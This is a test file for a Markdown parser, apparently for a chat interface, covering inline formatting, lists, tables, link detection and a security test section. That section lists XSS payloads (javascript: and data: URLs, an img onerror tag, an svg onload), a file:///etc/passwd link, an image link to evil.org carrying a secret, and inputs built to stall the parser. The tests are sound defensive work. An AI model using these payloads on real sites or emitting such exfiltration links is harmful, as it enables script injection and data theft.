import { describe, expect, it } from 'vitest';
import { plainText, type Block, type Inline } from './ast';
import { parseMarkdown, parsePlain } from './blocks';
import { parseInline } from './inline';
import { safeLink, safeMedia } from './url';

const text = (v: string): Inline => ({ t: 'text', v });

function links(blocks: Block[]): string[] {
  const found: string[] = [];
  JSON.stringify(blocks, (key, value: unknown) => {
    if (key === 'href') found.push(String(value));
    return value;
  });
  return found;
}

describe('inline marks', () => {
  it.each<[string, Inline[]]>([
    ['**b**', [{ t: 'strong', c: [text('b')] }]],
    ['*i* and _i_', [{ t: 'em', c: [text('i')] }, text(' and '), { t: 'em', c: [text('i')] }]],
    ['~~s~~', [{ t: 'del', c: [text('s')] }]],
    ['***x***', [{ t: 'em', c: [{ t: 'strong', c: [text('x')] }] }]],
    ['**a *b* c**', [{ t: 'strong', c: [text('a '), { t: 'em', c: [text('b')] }, text(' c')] }]],
    ['snake_case_name', [text('snake_case_name')]],
    ['2 * 3 * 4', [text('2 * 3 * 4')]],
    ['a ~ b', [text('a ~ b')]],
    ['\\*not\\*', [text('*not*')]],
    ['`a*b*`', [{ t: 'code', v: 'a*b*' }]],
    ['``a ` b``', [{ t: 'code', v: 'a ` b' }]],
    ['a `b', [text('a `b')]],
    ['**未闭合', [text('**未闭合')]],
    ['**强调**，后文', [{ t: 'strong', c: [text('强调')] }, text('，后文')]],
    ['a\nb', [text('a'), { t: 'br' }, text('b')]],
    ['R&amp;D &lt;b&gt; &copy;', [text('R&D <b> &copy;')]],
  ])('%s', (source, expected) => {
    expect(parseInline(source)).toEqual(expected);
  });

  it('reads links, also with brackets and titles', () => {
    expect(parseInline('[a **b**](https://x.org/p_(q) "t")')).toEqual([
      { t: 'link', href: 'https://x.org/p_(q)', c: [text('a '), { t: 'strong', c: [text('b')] }] },
    ]);
    expect(parseInline('[a] (b)')).toEqual([text('[a] (b)')]);
  });

  it('finds bare addresses and leaves the punctuation of the sentence', () => {
    expect(links(parseMarkdown('See https://x.org/a_b_c, www.y.org. (https://z.org/q)'))).toEqual([
      'https://x.org/a_b_c',
      'https://www.y.org/',
      'https://z.org/q',
    ]);
    expect(links(parseMarkdown('mail ada@example.org!'))).toEqual(['mailto:ada@example.org']);
    expect(links(parseMarkdown('**https://x.org**'))).toEqual(['https://x.org/']);
    expect(links(parseMarkdown('`https://x.org`'))).toEqual([]);
  });

  it('never puts a link into a link', () => {
    const [link] = parseInline('[see https://evil.org here](https://good.org)');
    expect(link).toEqual({ t: 'link', href: 'https://good.org/', c: expect.any(Array) as Inline[] });
    expect(links([{ t: 'p', c: [link as Inline] }])).toEqual(['https://good.org/']);
  });
});

describe('blocks', () => {
  it('reads headings, rules, quotes and paragraphs', () => {
    expect(parseMarkdown('# A\ntext\n\n---\n> q\n> r').map((block) => block.t)).toEqual([
      'heading',
      'p',
      'hr',
      'quote',
    ]);
  });

  it('reads nested lists however they are indented', () => {
    for (const indent of ['  ', '   ', '    ']) {
      const [list] = parseMarkdown(`1. a\n${indent}- b\n${indent}- c\n2. d`);
      expect(list).toMatchObject({
        t: 'list',
        ordered: true,
        items: [{ c: [{ t: 'p' }, { t: 'list', items: [{}, {}] }] }, {}],
      });
    }
  });

  it('keeps the number a list starts with and joins items across blank lines', () => {
    expect(parseMarkdown('3. a\n\n4. b')).toMatchObject([{ t: 'list', start: 3, items: [{}, {}] }]);
  });

  it('does not take a wrapped year for a list', () => {
    expect(parseMarkdown('It was in\n1996. A good year.')).toHaveLength(1);
  });

  it('reads task lists', () => {
    expect(parseMarkdown('- [x] done\n- [ ] open')).toMatchObject([
      { items: [{ checked: true }, { checked: false }] },
    ]);
  });

  it('shows an unfinished code block as code while it streams', () => {
    expect(parseMarkdown('```py\nprint(1)\n')).toEqual([{ t: 'code', lang: 'py', v: 'print(1)\n' }]);
    expect(parseMarkdown('```\na\n```\nb')).toMatchObject([{ t: 'code', v: 'a' }, { t: 'p' }]);
  });

  it('reads tables with alignment and escaped bars', () => {
    expect(parseMarkdown('| a | b |\n|:-:|--:|\n| x \\| y | `p|q` |\n| only |')).toEqual([
      {
        t: 'table',
        align: ['center', 'right'],
        head: [[text('a')], [text('b')]],
        rows: [
          [[text('x | y')], [{ t: 'code', v: 'p|q' }]],
          [[text('only')], []],
        ],
      },
    ]);
  });

  it('gives the text without marks to a screen reader', () => {
    expect(plainText(parseMarkdown('## T\n**a** [b](https://x.org)\n\n1. c\n2. d'))).toBe(
      'T\na b\n1. c\n2. d',
    );
  });

  it('leaves plain text alone except for addresses', () => {
    expect(parsePlain('*a* https://x.org.\n# b')).toEqual([
      {
        t: 'p',
        c: [
          text('*a* '),
          { t: 'link', href: 'https://x.org/', c: [text('https://x.org')] },
          text('.'),
          { t: 'br' },
          text('# b'),
        ],
      },
    ]);
  });
});

describe('safety', () => {
  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://x.org/1',
    '//evil.org',
    '/relative',
    'intent://x#Intent;scheme=http;end',
    'https://x.org/\u202egnp.exe',
    '',
  ])('refuses %j as a link', (url) => {
    expect(safeLink(url)).toBeNull();
  });

  it.each(['https://x.org/', 'http://x.org/', 'mailto:a@b.org', 'tel:+123'])('follows %s', (url) => {
    expect(safeLink(url)).toBe(url);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](java&#x73;cript:alert(1))',
    '![x](data:text/html;base64,PHNjcmlwdD4=)',
    '<javascript:alert(1)>',
    '[x](data:image/svg+xml,<svg onload=alert(1)>)',
    '[x](\u0001javascript:alert(1))',
    '[a [b](javascript:1) c](vbscript:1)',
  ])('makes no link of %s', (source) => {
    expect(links(parseMarkdown(source))).toEqual([]);
  });

  it('keeps markup as text', () => {
    const source = '<img src=x onerror=alert(1)><script>alert(1)</script>';
    expect(parseMarkdown(source)).toEqual([{ t: 'p', c: [text(source)] }]);
  });

  it('never fetches a picture that a text names', () => {
    expect(parseMarkdown('![leak](https://evil.org/?q=secret)')).toEqual([
      { t: 'p', c: [{ t: 'link', href: 'https://evil.org/?q=secret', c: [text('leak')] }] },
    ]);
  });

  it('takes media from web addresses and the server only', () => {
    expect(safeMedia('/media/1/a.png', 'https://chat.org/')).toBe('https://chat.org/media/1/a.png');
    for (const url of ['javascript:1', 'data:image/svg+xml,<svg>', 'file:///x', '', undefined])
      expect(safeMedia(url, 'https://chat.org/')).toBeNull();
  });

  it.each([
    ['open marks', '*a '.repeat(20_000)],
    ['alternating marks', '*_~~'.repeat(15_000)],
    ['open brackets', '['.repeat(60_000)],
    ['open links', '[a](<'.repeat(15_000)],
    ['open titles', '[a](b "'.repeat(10_000)],
    ['backticks', Array.from({ length: 300 }, (_, i) => '`'.repeat(i + 1)).join(' ')],
    ['deep quotes', '>'.repeat(20_000)],
    ['deep lists', Array.from({ length: 400 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n')],
    ['markers in a line', '- '.repeat(20_000)],
    ['bars', '|'.repeat(50_000) + '\n' + '|-'.repeat(20_000)],
    ['spaces', '```' + ' '.repeat(60_000) + '`\n#' + ' '.repeat(60_000) + 'x'],
    ['spaces before a break', 'a' + ' '.repeat(60_000) + 'b\nc'],
    ['addresses', 'https://a.b/' + ')'.repeat(60_000)],
    ['mail', 'a.'.repeat(30_000) + '@'],
  ])('ends soon on hostile input: %s', { timeout: 5000 }, (_, source) => {
    expect(plainText(parseMarkdown(source)).length).toBeLessThanOrEqual(source.length * 2);
  });
});
